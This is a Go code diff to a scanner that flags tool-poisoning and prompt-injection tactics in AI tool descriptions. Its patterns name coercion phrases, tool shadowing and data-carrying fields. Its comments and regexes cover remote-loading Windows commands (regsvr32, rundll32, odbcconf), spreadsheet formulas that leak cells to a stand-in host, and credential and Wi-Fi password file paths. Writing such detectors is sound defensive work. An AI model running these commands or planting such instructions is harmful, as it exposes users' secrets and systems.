@@ -259,6 +259,12 @@ var secVocabulary = []secItem{
 	{kind: kSignal, class: clsParameter, why: "asks for what the model gathers through its other tools",
 		p: ph("from|through|via|by|with the|any|your|their|other|another|connected|every|each|all|its|whatever ~4 tool|tools"), cond: gatheredByOtherTools},
 
+	// Coercion: acting whatever the user says.
+	{kind: kSignal, class: clsCoercion, why: "tells the model to act whether or not the user asked",
+		p: ph("whether|regardless ~1 or? not|of ~1 whether? ~1 the? @user|they|anyone|he|she ~1 asked|asks|ask|wants|want|wanted|agreed|agrees|requested|requests|confirmed|confirms"), cond: actsWhether},
+	{kind: kSignal, class: clsCoercion, why: "tells the model to act whether or not the user asked",
+		p: ph("whether the? @user|they|anyone|he|she asked|asks|wants|wanted|agreed|agrees|requested|requests|confirmed|confirms ~3 or not"), cond: actsWhether},
+
 	// Tool shadowing: steering away from other tools or changing how they work.
 	{kind: kSignal, class: clsShadowing, why: "changes how the model uses another tool",
 		p: ph("when|whenever|before|after|once ~3 with|using|via|through ~1 the? <ident> ~8 must|always|also|instead|set|change|add|include|replace|make|ensure|remember|first|append|prepend|push|attach|copy|forward|cc|bcc|sign|route|redirect|send|share"), cond: refOther},
@@ -365,7 +371,10 @@ var secVocabulary = []secItem{
 	{kind: kSens, why: "the MCP configuration of other clients", heads: hd("config configuration settings claude cursor windsurf cline"), p: ph("claude|cursor|windsurf|cline ~1 desktop|code|ide? config|configuration|settings|mcp.json")},
 	{kind: kSens, why: "payment card data", heads: hd("card payment payments billing checkout"), p: ph("credit|debit|card|payment card|cards? number|numbers|details|cvv|data")},
 	{kind: kSens, why: "access codes", heads: hd("pin pins passcode unlock lock"), p: ph("supervisor|lock-screen|lockscreen|unlock|phone|card|terminal|atm|sim|bank|banking|account|admin ~1 pin|pins|pin-code")},
-	{kind: kSens, why: "access codes", heads: hd("access door doors alarm alarms gate gates garage keypad lock locks lockbox entry security intercom"), p: ph("door|alarm|gate|garage|keypad|lockbox|keysafe|safe|intercom ~1 code|codes|pin|pins|combination|combinations")},
+	{kind: kSens, why: "access codes", heads: hd("access door doors alarm alarms gate gates garage keypad lock locks lockbox entry security intercom meeting meetings webinar conference join"), p: ph("door|alarm|gate|garage|keypad|lockbox|keysafe|safe|intercom|access ~1 code|codes|pin|pins|combination|combinations")},
+	{kind: kSens, why: "credentials", heads: hd("bank banking login logins auth credential credentials"), p: ph("bank|banking|online-banking ~1 login|logins|username|usernames|password|passwords|credentials|memorable")},
+	{kind: kSens, why: "one-time codes", heads: hd("otp 2fa mfa totp verify verification auth authenticate login"), p: ph("one-time|otp|2fa|mfa|totp|authenticator|card-reader ~1 code|codes|passcode|passcodes")},
+	{kind: kSens, why: "one-time codes", heads: hd("otp 2fa mfa totp verify verification auth authenticate login"), p: ph("card reader code|codes")},
 	{kind: kSens, why: "identity numbers", heads: hd("ssn identity"), p: ph("social security|insurance number|numbers")},
 	{kind: kSens, why: "identity numbers", heads: hd("passport identity license licence"), p: ph("passport|taxpayer|license|licence|routing|iban number|numbers")},
 	{kind: kSens, why: "bank account numbers", heads: hd("bank banking account accounts payment payments"), p: ph("bank|brokerage ~1 account|accounts number|numbers|details")},
@@ -401,7 +410,7 @@ var secVocabulary = []secItem{
 	{kind: kCommand, cmd: cmdDestroy, p: ph("rm|mkfs|dd|chmod|chown|shred|find")},
 	{kind: kCommand, cmd: cmdGit, p: ph("git")},
 	{kind: kCommand, cmd: cmdInterp, p: ph("python|python3|perl|ruby|php|node|deno|rscript|bun|uv|uvx|pipx")},
-	{kind: kCommand, cmd: cmdPowershell, p: ph("wmic|cmd|conhost|schtasks|reg")},
+	{kind: kCommand, cmd: cmdPowershell, p: ph("wmic|cmd|conhost|schtasks|reg|regsvr32|odbcconf|rundll32|regsvr32.exe|odbcconf.exe|rundll32.exe")},
 	{kind: kCommand, cmd: cmdCode, p: ph("eval|exec|urlopen|pty.spawn|os.dup2|dup2|create_connection|subprocess.popen")},
 	{kind: kCommand, cmd: cmdSQL, p: ph("psql|mysql|sqlite3|mongosh|mongo|sqlcmd|cqlsh")},
 	{kind: kCommand, cmd: cmdSQL, p: ph("drop|truncate table|schema|database|keyspace")},
@@ -642,8 +651,8 @@ func gatheredByOtherTools(s *secScan, t *secText, cl []tok, from, to int) bool {
 	if cl[from+1].w == "the" && to-from-3 < 2 {
 		return false
 	}
-	if to < len(cl) && toolNouns[cl[to].w] {
-		return false // "via the build tool output"
+	if to < len(cl) && toolNouns[cl[to].w] && !(everyWord(cl[from+1].w) && toolReturns[cl[to].w]) {
+		return false // "via the build tool output", "from any tool call that failed"; "from any file or tool result you have seen" gathers
 	}
 	for k := from + 2; k < to-1; k++ {
 		if cl[k].kind != tWord || notToolKinds[cl[k].w] || slices.Contains(s.words(), cl[k].w) {
@@ -711,6 +720,25 @@ var conversedWith = wordSet("you me us the assistant")
 func askedEarlier(s *secScan, t *secText, cl []tok, from, to int) bool {
 	return (len(sensHits(cl, s.x.ms)) > 0 || s.prevSens != "") && askedOfTheConversation(s, t, cl, from, to)
 }
+
+// actsWhether reports whether "whether or not the user asked" qualifies
+// something done, as it does after an order ("add 10 minutes, whether or
+// not they asked"), and does not open the clause or follow a word that
+// reports a fact: "Whether or not the user wants email digests" is a
+// flag's meaning.
+func actsWhether(s *secScan, t *secText, cl []tok, from, to int) bool {
+	return from > 0 && !reportsWhether[cl[from-1].w]
+}
+
+// reportsWhether are words after which "whether" opens what is reported.
+var reportsWhether = wordSet("indicates indicate indicating shows show showing tells tell records record recording flags flag marks mark says say states state stating of on about know knows check checks checking whether and or")
+
+// toolReturns are the nouns of toolNouns for what a tool returns, which
+// "any" or "every" before them gathers: "from every tool output".
+var toolReturns = wordSet("result results output outputs response responses")
+
+// everyWord reports whether w quantifies over all: any, every, each, all.
+func everyWord(w string) bool { return w == "any" || w == "every" || w == "each" || w == "all" }
 
 // notToolKinds are words before "tool" that name no kind of tool the
 // model has beside this one.
@@ -1299,6 +1327,10 @@ func sensitivePath(w string) (what string, heads []string) {
 		return "a file of credentials", []string{"credentials", "credential", "secret", "secrets", "token", "tokens", "npmrc", "pypirc", "netrc", "pgpass", "gpg", "wallet", "keychain"}
 	case strings.Contains(w, "/etc/passwd") || strings.Contains(w, "/etc/shadow") || strings.Contains(w, "/etc/sudoers") || strings.Contains(w, "/proc/self/environ") || strings.Contains(w, "/var/run/secrets"):
 		return "the system's accounts or secrets", []string{"passwd", "shadow", "users", "accounts"}
+	case strings.Contains(w, "/iwd/") && strings.HasSuffix(w, ".psk") || strings.Contains(w, "networkmanager/system-connections") || strings.Contains(w, "wpa_supplicant.conf"):
+		return "saved Wi-Fi passwords", []string{"wifi", "wi-fi", "wlan", "network", "networks", "wireless"}
+	case strings.Contains(w, "sessionstore") && strings.Contains(w, "firefox"):
+		return "shell history or browser cookies", []string{"firefox", "browser", "session", "sessions"}
 	case strings.Contains(w, "tailscaled.state") || strings.Contains(w, "tailscale") && strings.Contains(w, "server-state.conf") || strings.Contains(w, "sops/age/keys.txt"):
 		return "a machine's private keys", []string{"tailscale", "sops", "age", "key", "keys"}
 	case strings.Contains(w, "bash_history") || strings.Contains(w, "zsh_history") || strings.Contains(w, "cookies.sqlite") || strings.Contains(w, "cookies.binarycookies") || strings.Contains(w, "login data") || strings.HasSuffix(w, "/cookies"):
@@ -1329,13 +1361,20 @@ func secretFileName(w string) bool {
 	if codeFile[path.Ext(file)] || strings.Contains(file, "tokenizer") || strings.Contains(dir, "tokenizer") {
 		return false // token_refresh.go, tokenizer.json: code and a model's vocabulary
 	}
-	for _, part := range []string{"secret", "password", "passwd", "passphrase", "credential", "token", "wallet"} {
+	for _, part := range []string{"secret", "password", "passwd", "passphrase", "credential", "token", "wallet", "keyring"} {
+		if part == "keyring" && publicKeyFile[path.Ext(file)] {
+			continue // /etc/apt/keyrings/docker.gpg: a package signer's public key
+		}
 		if strings.Contains(file, part) || strings.Contains(dir, part) {
 			return true
 		}
 	}
 	return file == "key.json" || strings.HasSuffix(file, ".seco")
 }
+
+// publicKeyFile are the extensions of a public key's file, as apt's
+// keyrings hold them.
+var publicKeyFile = wordSet(".gpg .asc .pgp")
 
 // scanClause finds what each class finds in one clause.
 func (s *secScan) scanClause(t *secText, cl []tok) {
@@ -1421,7 +1460,7 @@ func (s *secScan) scanClause(t *secText, cl []tok) {
 		s.prevSens, s.prevNamed = "", false
 		return // a sentence about what a filter or scanner finds
 	}
-	named := s.prevNamed
+	named, prevSens := s.prevNamed, s.prevSens
 	sens := kinds&(1<<kSens) != 0 || s.prevSens != "" || named
 	var cc *clauseCues
 	if sens || kinds&(1<<kCue) != 0 && s.mayIntend(cl, tagged, matches) {
@@ -1434,7 +1473,7 @@ func (s *secScan) scanClause(t *secText, cl []tok) {
 		s.sending(cl, matches)
 	}
 	if t.prop == "" && len(s.props) > 0 && kinds&(1<<kPass) != 0 {
-		s.carrier(t, cl, matches, named)
+		s.carrier(t, cl, matches, named && prevSens != "") // a secret the tool's purpose explains is the tool's to ask for
 	}
 	// The intents come last: a class's own reading says more of what it
 	// found ("to an e-mail address") than an intent's.
@@ -2407,7 +2446,8 @@ func extraField(name string) bool {
 
 // carrier finds, in a tool's own text, an instruction to put data into
 // one of its properties that exists to carry it: "pass its content as
-// 'sidenote'".
+// 'sidenote'", or a secret the tool's purpose does not explain into any
+// ("ask for the one-time code and pass it as `code`" is a login's).
 func (s *secScan) carrier(t *secText, cl []tok, ms []secMatch, prevNamed bool) {
 	for _, m := range ms {
 		if m.item.kind != kPass || cl[m.from].quoted || !imperativeAt(cl, m.from) || s.inFilter(m.from) {
@@ -2431,7 +2471,7 @@ func (s *secScan) carrier(t *secText, cl []tok, ms []secMatch, prevNamed bool) {
 			if !named {
 				continue
 			}
-			if (!extraField(w) || namedFor(cl[m.to:k], w)) && len(sensHits(cl, ms)) == 0 && !(prevNamed && m.to < len(cl) && pronouns[cl[m.to].w]) {
+			if (!extraField(w) || namedFor(cl[m.to:k], w)) && !slices.ContainsFunc(sensHits(cl, ms), func(h sensHit) bool { return !s.explainedSens(t, h.heads) }) && !(prevNamed && m.to < len(cl) && pronouns[cl[m.to].w]) {
 				continue
 			}
 			from, to := span(cl, m.from, k+1)
@@ -2573,6 +2613,13 @@ var commandPatterns = []struct {
 	},
 		regexp.MustCompile(`(?i)\b(deno\s+run|bun\s+run|bunx|uv\s+(?:tool\s+)?run|uvx|pipx\s+run)\b[^\n|;&]{0,80}?\shttps?://\S+|(?i)\bsource\s*\(\s*["']https?://[^"'\s]+["']`),
 		"runs a script from a host"},
+	// Windows programs that load a program from another host: regsvr32's
+	// scriptlet (/i:http...), odbcconf's REGSVR, rundll32 of a DLL on a
+	// share or of an address; a share named later is an argument, as
+	// printui.dll's printer is.
+	{cmdPowershell, func(l string) bool { return containsAny(l, "regsvr32", "odbcconf", "rundll32") },
+		regexp.MustCompile(`(?i)\bregsvr32\b[^\n]{0,80}?/i:\s*["']?(https?://|\\\\)\S+|(?i)\bodbcconf\b[^\n]{0,40}?\bregsvr\s+["']?(https?://|\\\\)\S+|(?i)\brundll32(?:\.exe)?\s+(?:["']?\\\\|[^\n]{0,40}?(?:javascript:|https?://))\S+`),
+		"loads a program from another host"},
 	// Windows: a process created by WMI, a command run at every logon or
 	// on a schedule, and a download saved and started in one line.
 	{cmdPowershell | cmdFetch, func(l string) bool {
@@ -2596,6 +2643,11 @@ var commandPatterns = []struct {
 		regexp.MustCompile(`(?i)\bpython3?\s+-c\s+["'][^"'\n]{0,200}(os\.system|subprocess|socket\.|pty\.spawn)|(?i)\bnode\s+-e\s+["'][^"'\n]{0,200}child_process|(?i)\b(certutil)\s+-urlcache|(?i)\bmshta\s+https?:|(?i)\b(iex|invoke-expression)\b[^\n]{0,40}(downloadstring|net\.webclient|invoke-webrequest|iwr)`),
 		"runs a one-line program that starts commands or connects out"},
 }
+
+// whyRogueRegistry is the why of an install from a registry no public
+// one and none the tool's purpose explains, which the model does not
+// veto: a sentence of a command and an address is words it seldom saw.
+const whyRogueRegistry = "installs packages from a registry the tool's purpose does not explain"
 
 // whyPipedToShell is the why of a download piped into a shell, which
 // the model does not veto (see unvetoed).
@@ -2621,11 +2673,11 @@ func (s *secScan) scanRaw(src string) {
 			}
 		}
 	}
-	if low := s.x.lower; s.x.url && (strings.Contains(low, "registry") && (strings.Contains(low, "registry http") || strings.Contains(low, "registry=http")) || strings.Contains(low, "index-url") || strings.Contains(low, " -i http") || strings.Contains(low, "--source http")) {
+	if low := s.x.lower; s.x.url && (strings.Contains(low, "registry") && (strings.Contains(low, "registry http") || strings.Contains(low, "registry=http")) || strings.Contains(low, "index-url") || strings.Contains(low, " -i http") || strings.Contains(low, "--source http") || strings.Contains(low, "source add")) {
 		s.rogueRegistry(src)
 	}
-	if strings.Contains(s.x.lower, "(\"http") {
-		if loc := sheetFormulaLeak.FindStringSubmatchIndex(src); loc != nil && !s.explainedDest(src[loc[2]:loc[3]]) {
+	if strings.Contains(s.x.lower, "\"http") {
+		if loc := sheetFormulaLeak.FindStringSubmatchIndex(src); loc != nil && !s.explainedDest(src[loc[2]:loc[3]]) && (src[loc[1]-1] == '&' || sheetConcat(src[loc[0]:loc[1]])) {
 			s.report(clsExfiltration, loc[0], loc[1], "builds a spreadsheet formula that sends cells to an address")
 		}
 	}
@@ -2646,13 +2698,23 @@ func (s *secScan) scanRaw(src string) {
 
 // sheetFormulaLeak is a spreadsheet formula that fetches an address
 // with the sheet's cells joined to it: =WEBSERVICE("https://host/?row="
-// & ENCODEURL(A2)), =IMAGE("https://host/p.png?d=" & B2). A sheet that
-// recalculates sends them; group 1 is the address.
-var sheetFormulaLeak = regexp.MustCompile(`(?i)=\s*(?:WEBSERVICE|IMPORTXML|IMPORTDATA|IMPORTHTML|IMPORTFEED|IMAGE|HYPERLINK)\s*\(\s*"(https?://[^"\s]+)"\s*&`)
+// & ENCODEURL(A2)), =IMAGE("https://host/p.png?d=" & B2),
+// =WEBSERVICE(CONCATENATE("https://host/?d=", A2)). A sheet that
+// recalculates sends them; HYPERLINK fetches nothing until clicked, a
+// link to each row's ticket. Group 1 is the address.
+var sheetFormulaLeak = regexp.MustCompile(`(?i)=\s*(?:WEBSERVICE|IMPORTXML|IMPORTDATA|IMPORTHTML|IMPORTFEED|IMAGE)\s*\(\s*(?:CONCATENATE\s*\(|CONCAT\s*\()?\s*"(https?://[^"\s]+)"\s*[&,;]`)
+
+// sheetConcat reports whether a formula joins its address with a comma
+// inside CONCAT or CONCATENATE, where a comma after the address is
+// otherwise the next argument: =IMPORTXML("https://host/", "//a").
+func sheetConcat(f string) bool {
+	low := strings.ToLower(f)
+	return strings.Contains(low, "concat")
+}
 
 // registryFlag is a registry named on the command line of an install:
 // a package manager's flag for it.
-var registryFlag = regexp.MustCompile(`(?i)(?:\b(?:npm|pnpm|yarn|bun|npx|pip3?|uv|poetry|gem|cargo)\b[^\n;|&]{0,120}?(?:-i|--source)|--registry|--index-url|--extra-index-url|\bconfig\s+set\s+\S*(?:registry|index-url))[ =]+["']?(https?://[^\s"'\x60]+)`)
+var registryFlag = regexp.MustCompile(`(?i)(?:\b(?:npm|pnpm|yarn|bun|npx|pip3?|uv|poetry|gem|cargo)\b[^\n;|&]{0,120}?(?:-i|--source)|--registry|--index-url|--extra-index-url|\bconfig\s+set\s+\S*(?:registry|index-url)|\b(?:winget|choco|chocolatey)\s+source\s+add\b[^\n;|&]{0,80}?(?:-a|--arg|-s|--source)?)[ =]+["']?(https?://[^\s"'\x60]+)`)
 
 // knownRegistries are the public registries' hosts, and those of the
 // big vendors' package hosts that documentation names.
@@ -2671,7 +2733,7 @@ func (s *secScan) rogueRegistry(src string) {
 		if knownRegistries[host] || s.explainedDest(u) {
 			continue
 		}
-		s.report(clsCommand, m[0], m[1], "installs packages from a registry the tool's purpose does not explain")
+		s.report(clsCommand, m[0], m[1], whyRogueRegistry)
 		return
 	}
 }
